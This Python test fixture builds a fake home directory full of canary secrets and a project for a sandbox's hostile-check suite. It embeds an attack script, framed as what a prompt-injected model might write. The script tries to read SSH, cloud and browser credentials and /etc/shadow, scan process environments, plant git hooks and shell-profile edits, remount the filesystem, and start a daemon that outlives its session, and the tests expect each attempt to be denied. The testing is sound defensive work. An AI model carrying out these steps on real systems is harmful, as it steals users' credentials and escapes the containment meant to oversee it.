"""The hostile check of issue 14 (acceptance 1): one script a prompt-injected model could write, with one
attempt per name; and the temp ``HOME`` full of secret stores and the project it attacks.

``attack.py <name>`` performs one attempt and prints ``ATTEMPT <name>: DENIED: <error>`` (exit 1) or
``ATTEMPT <name>: SUCCEEDED: <what it got>`` (exit 0). The script only knows what an attacker could learn
or guess (paths, the engine's pid, variable names; never the canary itself); it is plain data for the
tests, which verify every effect on the host too.
"""

from __future__ import annotations

import json
import socket
from dataclasses import dataclass
from pathlib import Path

#: Secret stores created in the temp HOME (relative path → content); each holds the canary.
SECRET_FILES = {
    ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\n{canary}\n",
    ".ssh/id_rsa": "-----BEGIN RSA PRIVATE KEY-----\n{canary}\n",
    ".aws/credentials": "[default]\naws_secret_access_key = {canary}\n",
    ".config/gcloud/application_default_credentials.json": '{{"refresh_token": "{canary}"}}\n',
    ".netrc": "machine example.com login me password {canary}\n",
    ".npmrc": "//registry.npmjs.org/:_authToken={canary}\n",
    ".docker/config.json": '{{"auths": {{"x": {{"auth": "{canary}"}}}}}}\n',
    ".gnupg/private-keys-v1.d/key.key": "{canary}\n",
    ".local/share/keyrings/login.keyring": "{canary}\n",
    ".config/google-chrome/Default/Cookies": "{canary}\n",
    ".bashrc": "# the user's shell profile\n",
}

ATTACK = r'''
import ctypes, glob, json, os, socket, subprocess, sys, time
T = json.loads(__TARGETS__)
HOME = T["home"]
name = sys.argv[1]

def read(path):
    with open(path, "rb") as f:
        return f.read(4096).decode("utf-8", "replace")

def write(path, text="pwned by a check\n", mode="a"):
    with open(path, mode) as f:
        f.write(text)
    return "wrote " + path

def scan_environ():
    hits, seen = [], 0
    for p in glob.glob("/proc/[0-9]*/environ"):
        try:
            data = open(p, "rb").read()
        except OSError:
            continue
        seen += 1
        for var in (b"SPOTPATCH_HOSTILE_CANARY=", b"SPOTPATCH_HOSTILE_PROVIDER_KEY="):
            if var in data:
                hits.append(p + ": " + data.split(var, 1)[1].split(b"\0", 1)[0].decode())
    if hits:
        return "canary in " + ", ".join(hits)
    raise PermissionError(f"no key variable in any of the {seen} /proc/*/environ this check can read")

def listing(path):
    names = sorted(os.listdir(path))
    leaked = [n for n in names if n in T["project_names"]]
    if leaked:
        return "listed " + ", ".join(leaked)
    raise PermissionError(f"{path} shows none of the project's files (only {names})")

def connect_tcp():
    s = socket.create_connection(("127.0.0.1", T["port"]), timeout=3)
    s.sendall(b"stolen")
    return "connected and sent"

def connect_unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    s.sendall(b"stolen")
    return "connected to " + path

def libc_call(fn, *args):
    libc = ctypes.CDLL(None, use_errno=True)
    if getattr(libc, fn)(*args) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return fn + " worked"

def daemon_start():
    # Double fork + setsid: a grandchild outside the check's process group and session.
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c",
                "import time, sys\nwhile True:\n"
                "    open('daemon.beat', 'w').write(str(time.time()))\n    time.sleep(0.05)",
                T["token"]])
        os._exit(0)
    for _ in range(100):
        if os.path.exists("daemon.beat"):
            return "daemon running (pid namespace of this check)"
        time.sleep(0.02)
    raise RuntimeError("the daemon did not start")

def daemon_alive():
    try:
        first = read("daemon.beat")
    except OSError as e:
        raise ProcessLookupError(f"no heartbeat file: {e}")
    time.sleep(0.5)
    if read("daemon.beat") != first:
        return "the daemon from an earlier check is still running"
    raise ProcessLookupError("the heartbeat stopped: the daemon died with its check")

ATTEMPTS = {
    "read-ssh-key": lambda: read(HOME + "/.ssh/id_ed25519"),
    "glob-ssh-keys": lambda: [read(p) for p in glob.glob(HOME + "/.ssh/id_*")]
    or (_ for _ in ()).throw(FileNotFoundError("no ~/.ssh/id_* visible")),
    "read-aws": lambda: read(HOME + "/.aws/credentials"),
    "read-gcloud": lambda: read(HOME + "/.config/gcloud/application_default_credentials.json"),
    "read-netrc": lambda: read(HOME + "/.netrc"),
    "read-npmrc": lambda: read(HOME + "/.npmrc"),
    "read-docker": lambda: read(HOME + "/.docker/config.json"),
    "read-gnupg": lambda: read(HOME + "/.gnupg/private-keys-v1.d/key.key"),
    "read-keyring": lambda: read(HOME + "/.local/share/keyrings/login.keyring"),
    "read-browser-profile": lambda: read(HOME + "/.config/google-chrome/Default/Cookies"),
    "read-engine-environ": lambda: read(f"/proc/{T['engine_pid']}/environ"),
    "read-engine-parent-environ": lambda: read(f"/proc/{T['parent_pid']}/environ"),
    "scan-proc-environ": scan_environ,
    "read-working-tree-env": lambda: read(T["project"] + "/.env"),
    "list-working-tree": lambda: listing(T["project"]),
    "read-other-worktree": lambda: read(T["other_worktree"] + "/secret.txt"),
    "read-shadow": lambda: read("/etc/shadow"),
    "connect-local-listener": connect_tcp,
    "connect-unix-socket-in-home": lambda: connect_unix(HOME + "/agent.sock"),
    "connect-unix-socket-in-tmp": lambda: connect_unix(T["tmp_socket"]),
    "write-working-tree": lambda: write(T["project"] + "/src/App.tsx"),
    "create-in-working-tree": lambda: write(T["project"] + "/pwned.txt", mode="w"),
    "write-git-hook": lambda: write(T["project"] + "/.git/hooks/pre-commit", "#!/bin/sh\necho pwned\n", "w"),
    "write-home-profile": lambda: write(HOME + "/.bashrc"),
    "create-in-home": lambda: write(HOME + "/pwned.txt", mode="w"),
    "write-host-tmp": lambda: write(T["tmp_dir"] + "/pwned.txt", mode="w"),
    "write-node-modules": lambda: write(T["project"] + "/node_modules/evil.js", "process.exit(1)\n", "w"),
    "write-other-worktree": lambda: write(T["other_worktree"] + "/pwned.txt", mode="w"),
    "remount-root-rw": lambda: libc_call("mount", b"none", b"/", None, 32 | 4096, None),  # MS_REMOUNT|MS_BIND
    "unmount-hidden-home": lambda: libc_call("umount2", HOME.encode(), 2),  # MNT_DETACH
    "daemon-start": daemon_start,
    "daemon-alive": daemon_alive,
}

try:
    got = ATTEMPTS[name]()
except Exception as exc:
    print(f"ATTEMPT {name}: DENIED: {type(exc).__name__}: {exc}")
    sys.exit(1)
print(f"ATTEMPT {name}: SUCCEEDED: {str(got)[:300]}")
'''

#: Attempts that must each be denied (``daemon-start`` only sets up ``daemon-alive``).
DENIED = [
    "read-ssh-key", "glob-ssh-keys", "read-aws", "read-gcloud", "read-netrc", "read-npmrc", "read-docker",
    "read-gnupg", "read-keyring", "read-browser-profile", "read-engine-environ", "read-engine-parent-environ",
    "scan-proc-environ", "read-working-tree-env", "list-working-tree", "read-other-worktree", "read-shadow",
    "connect-local-listener", "connect-unix-socket-in-home", "connect-unix-socket-in-tmp", "write-working-tree",
    "create-in-working-tree", "write-git-hook", "write-home-profile", "create-in-home", "write-host-tmp",
    "write-node-modules", "write-other-worktree", "remount-root-rw", "unmount-hidden-home", "daemon-alive",
]


@dataclass
class Victim:
    """The machine a hostile check attacks: a temp ``home`` with secret stores and Unix sockets, the user's
    ``project`` (a git repo with a git-ignored ``node_modules`` and an untracked ``.env``), a host ``tmp_dir``
    and a socket in it, a TCP ``listener`` on 127.0.0.1 and the ``canary`` every secret holds."""

    home: Path
    project: Path
    tmp_dir: Path
    canary: str
    token: str
    listener: socket.socket
    sockets: list[socket.socket]

    @property
    def port(self) -> int:
        return self.listener.getsockname()[1]

    @property
    def other_worktree(self) -> Path:
        return self.project / "node_modules" / ".spotpatch" / "pool-other"

    def targets(self, *, engine_pid: int, parent_pid: int) -> dict:
        return {"home": str(self.home), "project": str(self.project), "tmp_dir": str(self.tmp_dir),
                "tmp_socket": str(self.tmp_dir / "agent.sock"), "token": self.token,
                "port": self.port, "engine_pid": engine_pid, "parent_pid": parent_pid,
                "other_worktree": str(self.other_worktree),
                "project_names": [".env", "src", ".git", "package.json", ".gitignore"]}

    def attack_script(self, *, engine_pid: int, parent_pid: int) -> str:
        return ATTACK.replace("__TARGETS__", repr(json.dumps(self.targets(engine_pid=engine_pid,
                                                                              parent_pid=parent_pid))))

    def accepted(self) -> int:
        """Connections the TCP listener received (non-blocking)."""
        count = 0
        self.listener.setblocking(False)
        while True:
            try:
                conn, _ = self.listener.accept()
            except BlockingIOError:
                return count
            conn.close()
            count += 1

    def snapshot(self) -> dict[str, bytes | None]:
        """Every file of the home, the project and the host tmp dir, but what the engine itself writes in
        ``.git`` (objects, worktree registrations, its lock) and the job worktrees."""
        files: dict[str, bytes | None] = {}
        for base in (self.home, self.project, self.tmp_dir):
            for path in sorted(base.rglob("*")):
                posix = path.as_posix()
                if any(part in posix
                       for part in (".git/objects", ".git/worktrees", ".git/spotpatch", ".spotpatch/job-")):
                    continue
                if path.is_file() and not path.is_symlink():
                    files[str(path)] = path.read_bytes()
                elif not path.is_dir():
                    files[str(path)] = None
        return files

    def close(self) -> None:
        for s in [self.listener, *self.sockets]:
            s.close()


def make_victim(base: Path, canary: str, token: str, project_files: dict[str, str]) -> Victim:
    from tests.conftest import git, make_repo

    home = base / "home"
    for rel, text in SECRET_FILES.items():
        path = home / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text.format(canary=canary))
    # The shape issue 25 asks of the suite: a submodule (a gitlink, an empty directory in each job worktree),
    # an ignored nested repository, and an LFS-style filter from the user's global config used by the
    # project's attributes (a filter command the user configured; tests/checks/test_host_git_escape.py).
    (home / ".gitconfig").write_text('[filter "lfs"]\n\tclean = cat\n\tsmudge = cat\n\trequired = true\n')
    lib = make_repo(base / "lib", {"x.txt": "x\n"})
    project = make_repo(base / "project", {**project_files, ".gitignore": "node_modules\n.env\nthird_party/\n",
                                           ".gitattributes": "*.dat filter=lfs\n", "data.dat": "payload\n"})
    git(project, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(lib), "vendor/lib")
    git(project, "commit", "-qm", "a submodule")
    (project / "third_party" / "nested").mkdir(parents=True)
    git(project / "third_party" / "nested", "init", "-q")
    (project / ".env").write_text(f"OPENAI_API_KEY={canary}\n")
    other = project / "node_modules" / ".spotpatch" / "pool-other"
    other.mkdir(parents=True)
    (other / "secret.txt").write_text(canary)
    tmp_dir = base / "host-tmp"
    tmp_dir.mkdir()
    sockets = []
    for path in (home / "agent.sock", tmp_dir / "agent.sock"):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(str(path))
        s.listen(8)
        sockets.append(s)
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    return Victim(home=home, project=project, tmp_dir=tmp_dir, canary=canary, token=token, listener=listener,
                  sockets=sockets)


def host_processes_with(token: str) -> list[int]:
    """Live host processes (not zombies) whose command line holds ``token``."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if token.encode() in (entry / "cmdline").read_bytes() and \
                    (entry / "stat").read_text().rsplit(")", 1)[1].split()[0] != "Z":
                found.append(int(entry.name))
        except OSError:
            pass
    return found


def canary_env(canary: str) -> dict[str, str]:
    return {"SPOTPATCH_HOSTILE_CANARY": canary}
